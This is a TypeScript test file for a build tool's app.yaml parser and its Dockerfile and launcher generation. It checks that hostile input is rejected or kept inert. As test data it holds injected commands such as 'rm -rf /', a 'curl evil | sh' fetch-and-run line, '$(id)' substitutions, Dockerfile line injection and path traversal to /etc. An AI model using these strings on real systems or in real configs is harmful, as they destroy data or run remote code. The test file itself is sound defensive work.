import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseAppYaml } from '../../src/build/appyaml.js';
import { execFileSync } from 'node:child_process';
import { dockerfile } from '../../src/build/dockerfile.js';
import { entrypointShell, launcherFiles, shellWord } from '../../src/build/launcher.js';
import { EruError } from '../../src/lib/errors.js';
import { EXAMPLE_APP_YAML } from '../support/example-app.js';

// The README's example app, with the binds, volumes, dir and meta the schema also takes.
const GOOD = EXAMPLE_APP_YAML.replace('    restart: always', '    restart: always\n    dir: /app').concat(
  'volumes: ["/data"]\nbinds: {/host/logs: {bind: /logs, ro: false}}\nmeta: {owner: team-a}\n',
);

/** The example without its own tests, for the cases that write their own. */
const WITHOUT_TEST = GOOD.replace(/^# Run in the built image[^\n]*\ntest:\n( {2}.*\n)+test_resources: .*\n/m, '');

function refused(text: string, pattern: RegExp): void {
  assert.throws(
    () => parseAppYaml(text),
    (error: unknown) => error instanceof EruError && error.code === 'INVALID_ARGUMENT' && pattern.test(error.message),
  );
}

describe('app.yaml', () => {
  it('reads the documented example', () => {
    const app = parseAppYaml(GOOD);
    assert.equal(app.appname, 'hello');
    assert.deepEqual(app.entrypoints.web!.healthcheck, { tcp_ports: [], http: { port: 8080, url: '/index.html', code: 200 } });
    assert.equal(entrypointShell(app.entrypoints.web!), 'httpd -f -p 8080 -h /www');
    assert.equal(entrypointShell(app.entrypoints.worker!), "sh -c 'while true; do date; sleep 5; done'");
    assert.deepEqual(app.binds, { '/host/logs': { bind: '/logs', ro: false } });
    assert.deepEqual([app.test, app.test_resources], [{ cmd: 'grep -q . /www/index.html && echo "index.html is there"', timeout: 60 }, { cpu: 0.1, memory: 16 * 1024 * 1024 }]);
  });

  it('names the field and its line in errors', () => {
    refused(GOOD.replace('  web:', '  web_server:'), /^app\.yaml line 12: entrypoints\.web_server: bad name: .*no "_"/);
    refused(GOOD.replace('appname: hello', 'appname: Hello World'), /^app\.yaml line 2: appname: /);
    refused(GOOD.replace('restart: always', 'restart: sometimes'), /^app\.yaml line 16: entrypoints\.web\.restart: /);
    refused('appname: [unclosed', /^app\.yaml line \d+: /);
  });

  it('refuses names and images that would be shell or Dockerfile text', () => {
    refused(GOOD.replace('appname: hello', 'appname: "hello; rm -rf /"'), /appname/);
    refused(GOOD.replace('base: local/busybox:1', 'base: "busybox\\nRUN curl evil | sh"'), /base/);
    refused(GOOD.replace('base: local/busybox:1', 'base: "busybox $(id)"'), /base/);
  });

  it('refuses path traversal in binds, volumes and working directories', () => {
    refused(GOOD.replace('/host/logs:', '/host/../etc:'), /binds.*may not contain "\.\."/);
    refused(GOOD.replace('bind: /logs', 'bind: /logs/../../etc'), /binds/);
    refused(GOOD.replace('volumes: ["/data"]', 'volumes: ["../data"]'), /volumes/);
    refused(GOOD.replace('dir: /app', 'dir: /app/../../root'), /dir/);
    refused(GOOD.replace('dir: /app', 'dir: "/app; rm -rf /"'), /dir/);
  });

  it('refuses very long strings', () => {
    refused(GOOD.replace('mkdir -p /www && cp index.html /www/', 'x'.repeat(5000)), /build\.0/);
    refused(`${GOOD}#${'x'.repeat(300 * 1024)}`, /over 256 KiB/);
  });

  it('keeps quotes, $(), newlines and && in build commands inert as Dockerfile text', () => {
    const hostile = ['echo "quoted" \'single\'', 'echo $(id) `id`', 'echo one\nRUN echo injected\nUSER root', 'true && echo and'];
    const app = parseAppYaml(GOOD.replace('  - mkdir -p /www && cp index.html /www/', hostile.map((c) => `  - ${JSON.stringify(c)}`).join('\n')));
    const text = dockerfile(app);
    const lines = text.trim().split('\n');
    // Exactly: comment, FROM, WORKDIR, the user RUN, COPY, COPY launcher, one RUN per build command, VOLUME, USER, ENTRYPOINT.
    assert.equal(lines.length, 9 + hostile.length);
    assert.ok(lines.includes('VOLUME ["/data"]'));
    assert.deepEqual(lines.filter((l) => l.startsWith('USER ')), ['USER 10001:10001']);
    assert.equal(lines.at(-1), 'ENTRYPOINT ["/bin/sh","/.eru/launch"]');
    for (const [i, command] of hostile.entries()) {
      const run = lines[6 + i]!;
      assert.ok(run.startsWith('RUN ['), run);
      assert.deepEqual(JSON.parse(run.slice(4)), ['/bin/sh', '-c', command]);
    }
  });

  it('build.deps: the named files and their commands come before the code, so a change of code alone keeps that layer', () => {
    const app = parseAppYaml(GOOD.replace('build:\n  - mkdir -p /www && cp index.html /www/', 'build:\n  deps: {files: [deps.txt, lib/pins.txt], commands: ["sh deps.sh"]}\n  commands: ["mkdir -p /www && cp index.html /www/"]'));
    const lines = dockerfile(app).trim().split('\n');
    const at = (prefix: string): number => lines.findIndex((l) => l.startsWith(prefix));
    assert.deepEqual(app.build, { deps: { files: ['deps.txt', 'lib/pins.txt'], commands: ['sh deps.sh'] }, commands: ['mkdir -p /www && cp index.html /www/'] });
    assert.equal(lines[at('COPY --chown=10001:10001 ["deps.txt"')], 'COPY --chown=10001:10001 ["deps.txt","/hello/deps.txt"]');
    assert.equal(lines[at('COPY --chown=10001:10001 ["lib/pins.txt"')], 'COPY --chown=10001:10001 ["lib/pins.txt","/hello/lib/pins.txt"]');
    const depsRun = lines.indexOf('RUN ["/bin/sh", "-c", "sh deps.sh"]');
    const code = lines.indexOf('COPY --chown=10001:10001 [".","/hello"]');
    assert.ok(at('COPY --chown=10001:10001 ["deps.txt"') < depsRun && depsRun < code && code < lines.indexOf('RUN ["/bin/sh", "-c", "mkdir -p /www && cp index.html /www/"]'), lines.join('\n'));
    // The list form is the same as commands alone.
    assert.deepEqual(parseAppYaml(GOOD).build, { commands: ['mkdir -p /www && cp index.html /www/'] });
    refused(GOOD.replace('build:\n  - mkdir -p /www && cp index.html /www/', 'build: {deps: {files: [../secret], commands: [x]}}'), /build/);
    refused(GOOD.replace('build:\n  - mkdir -p /www && cp index.html /www/', 'build: {deps: {files: [/etc/passwd], commands: [x]}}'), /build/);
    refused(GOOD.replace('build:\n  - mkdir -p /www && cp index.html /www/', 'build: {deps: {files: [a], commands: [x]}, run: [y]}'), /build/);
  });

  it('test: one command or a list, a timeout, and resources', () => {
    const app = parseAppYaml(`${WITHOUT_TEST}test: {commands: ["sh test.sh", "true"], timeout: 2m}\ntest_resources: {cpu: 0.5, memory: 64MiB}\n`);
    assert.deepEqual(app.test, { commands: ['sh test.sh', 'true'], timeout: 120 });
    assert.deepEqual(app.test_resources, { cpu: 0.5, memory: 64 * 1024 * 1024 });
    assert.equal(parseAppYaml(`${WITHOUT_TEST}test: {cmd: make test}\n`).test!.timeout, 600);
    refused(`${WITHOUT_TEST}test: {timeout: 5m}\n`, /test: give cmd/);
    refused(`${WITHOUT_TEST}test: {cmd: x, timeout: 1 week}\n`, /test\.timeout/);
  });

  it('keeps entrypoint commands out of the launcher script, and quotes a commands list so sh reads back the exact words', () => {
    const words = ['it\'s', '$(id)', '`id`', 'a b', 'line\nbreak', '&& echo and', '"double"', '\\', ''];
    const app = parseAppYaml(GOOD.replace("cmd: sh -c 'while true; do date; sleep 5; done'", `commands: ${JSON.stringify(['printf', '%s|', ...words])}`));
    const files = launcherFiles(app);
    assert.deepEqual([...files.keys()].sort(), ['entrypoints/web', 'entrypoints/worker', 'launch']);
    assert.ok(!files.get('launch')!.includes('httpd'), 'the script is the same for every app');
    // The real sh reads the quoted list back word for word.
    assert.equal(execFileSync('/bin/sh', ['-c', files.get('entrypoints/worker')!], { encoding: 'utf8' }), words.map((w) => `${w}|`).join(''));
    assert.equal(execFileSync('/bin/sh', ['-c', `printf %s ${shellWord("'")}`], { encoding: 'utf8' }), "'");
  });
});
